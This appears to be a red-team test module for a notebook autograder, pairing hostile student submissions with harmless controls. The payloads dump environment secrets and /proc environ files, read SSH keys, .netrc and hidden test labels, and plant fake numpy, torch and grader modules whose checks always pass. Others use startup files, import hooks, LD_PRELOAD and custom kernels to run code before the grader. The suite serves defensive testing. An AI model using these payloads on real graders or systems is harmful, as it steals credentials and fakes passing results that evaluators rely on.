"""Environment: variables, start-up files and modules that stand in for the real ones."""

from __future__ import annotations

from autograder.redteam.attack import Attack, Category, Cell, HandedIn, RawNotebook

CLASS = Category.ENVIRONMENT
BEFORE = "code handed in as a file is run by the grader, before or instead of its own"
HERE = """
import os, pathlib
pathlib.Path(os.environ.get("HOME", "/tmp"), "redteam-was-here").write_text("run at start")
for value in os.environ.values():
    if value.startswith("canary-"):
        print(value)
"""
FAKE_TORCH = (
    HERE
    + """
class Anything:
    def __getattr__(self, name): return Anything()
    def __call__(self, *a, **k): return True
def __getattr__(name): return Anything()
equal = allclose = lambda *a, **k: True
"""
)
FAKE_NUMPY = (
    HERE
    + """
class testing:
    assert_allclose = assert_array_equal = staticmethod(lambda *a, **k: None)
"""
)


def other_kernel(notebook: RawNotebook) -> None:
    """The notebook asks for a kernel of the student's making."""
    notebook["metadata"]["kernelspec"] = {
        "name": "redteam",
        "display_name": "x",
        "language": "python",
        "env": {"LD_PRELOAD": "./evil.so", "PYTHONPATH": "."},
    }


def other_language(notebook: RawNotebook) -> None:
    """A harmless difference in the same place."""
    notebook["metadata"]["kernelspec"]["display_name"] = "Python of mine"


ATTACKS = (
    Attack(
        "tokens-in-the-environment",
        CLASS,
        "a token or another secret of the grader's environment is printed",
        HandedIn(cells=(Cell("""
import os, subprocess
print(dict(os.environ))
print(subprocess.run("env; cat /proc/self/environ /proc/1/environ /proc/*/environ", shell=True, capture_output=True).stdout)
print(open("/proc/self/environ", "rb").read())
"""),)),
        HandedIn(cells=(Cell("import os\nprint(os.environ.get('LANG'))"),)),
    ),
    Attack(
        "home-of-the-grader",
        CLASS,
        "a file in the home of who grades is read",
        HandedIn(cells=(Cell("""
import os, pwd
from pathlib import Path
homes = {os.path.expanduser("~"), os.environ.get("HOME", "/"), *(entry.pw_dir for entry in pwd.getpwall())}
homes |= set(map(str, Path.cwd().parents)) | {str(parent / "home") for parent in Path.cwd().parents}
for home in homes:
    for name in (".token", ".ssh/id_rsa", ".netrc", ".jupyter/jupyter_server_config.json", ".bash_history"):
        try:
            print(name, Path(home, name).read_text())
        except OSError:
            pass
"""),)),
        HandedIn(cells=(Cell("import os\nprint(os.path.isdir(os.path.expanduser('~')))"),)),
    ),
    Attack(
        "hidden-data",
        CLASS,
        "the labels of the hidden split are read from the data store",
        HandedIn(cells=(Cell("""
import os
from pathlib import Path
from autograder import data
places = [Path(os.environ.get("AUTOGRADER_DATA", "/data")), Path.home() / ".cache" / "autograder", Path("/data")]
places += [parent / "data" for parent in Path.cwd().parents]
for place in places:
    for path in (*place.glob("hidden/**/*"), *place.glob("student/../hidden/**/*"), *place.glob("*/hidden/**/*")):
        if path.is_file():
            print(path.read_text(errors="ignore"))
try:
    print(data.load("modalities", split="hidden"))
except Exception as error:
    print(error)
"""),)),
        HandedIn(cells=(Cell("from autograder import data\nprint(data.__name__)"),)),
    ),
    Attack("modules-beside-the-notebook", CLASS, BEFORE,
           HandedIn(wrong=True, files={
               "torch.py": FAKE_TORCH, "numpy.py": FAKE_NUMPY, "random.py": HERE, "json.py": HERE, "socket.py": HERE,
               "autograder/__init__.py": HERE + "def Notebook(*a, **k):\n    pass\n",
               "autograder/checks/__init__.py": "def trajectory(*a, **k):\n    pass\nshape = gradients_flow = trajectory\n",
               "otter/__init__.py": HERE, "nbgrader/__init__.py": HERE,
           }),
           HandedIn(files={"my_helpers.py": "def mean(x):\n    return x.mean(axis=0)\n"},
                    cells=(Cell("import my_helpers", "code-1"),))),
    Attack("start-up-files", CLASS, BEFORE,
           HandedIn(files={
               "sitecustomize.py": HERE, "usercustomize.py": HERE, "conftest.py": HERE, "__init__.py": HERE,
               ".ipython/profile_default/startup/00-start.py": HERE, "ipython_config.py": "c = get_config()\n" + HERE,
               "jupyter_nbconvert_config.py": HERE, "jupyter_server_config.py": HERE, "startup.pth": "import sitecustomize",
               ".pythonrc": HERE, "pyvenv.cfg": "home = .\n", "setup.cfg": "[tool:pytest]\naddopts = -p evil\n",
           }),
           HandedIn(files={"notes.cfg": "[mine]\n"})),
    Attack("paths-and-import-hooks", CLASS, "later imports, ours included, come from the student",
           HandedIn(wrong=True, files={"evil/numpy.py": FAKE_NUMPY, "evil/torch.py": FAKE_TORCH, "evil/autograder/__init__.py": HERE},
                    cells=(Cell("""
import importlib, os, sys
sys.path.insert(0, os.path.abspath("evil"))
os.environ["PYTHONPATH"] = os.path.abspath("evil")
class Finder:
    @staticmethod
    def find_spec(name, path=None, target=None):
        if name.startswith(("autograder.checks", "numpy.testing", "otter.test_files")):
            return importlib.machinery.ModuleSpec(name, Finder)
    @staticmethod
    def create_module(spec): return None
    @staticmethod
    def exec_module(module):
        module.__getattr__ = lambda name: lambda *a, **k: None
sys.meta_path.insert(0, Finder)
for name in [n for n in sys.modules if n.startswith(("autograder.checks", "numpy.testing", "otter.test_files"))]:
    del sys.modules[name]
"""),)),
           HandedIn(files={"lib/mine.py": "x = 1\n"}, cells=(Cell("import sys\nsys.path.append('lib')\nimport mine"),))),
    Attack("variables-for-the-next-process", CLASS, "variables that a submission sets reach a process of the grader",
           HandedIn(cells=(Cell("""
import os
os.environ.update(PYTHONSTARTUP="evil.py", LD_PRELOAD="/tmp/evil.so", PYTHONINSPECT="1", PYTHONOPTIMIZE="2",
                  AUTOGRADER_DATA="/tmp", NBGRADER_LOG_LEVEL="0", OTTER_INCORRECT="0", PATH=".:/tmp")
os.putenv("PYTHONHOME", "/tmp")
os.chdir("/tmp")
os.umask(0o777)
"""),)),
           HandedIn(cells=(Cell("import os\nos.environ['MINE'] = '1'"),))),
    Attack("kernel-of-my-own", CLASS, "the notebook's metadata choose what is started",
           HandedIn(edit=other_kernel, files={
               "kernels/redteam/kernel.json": '{"argv": ["sh", "-c", "touch redteam-was-here"], "display_name": "x"}',
               ".local/share/jupyter/kernels/redteam/kernel.json": '{"argv": ["sh"], "display_name": "x"}'}),
           HandedIn(edit=other_language)),
)  # fmt: skip
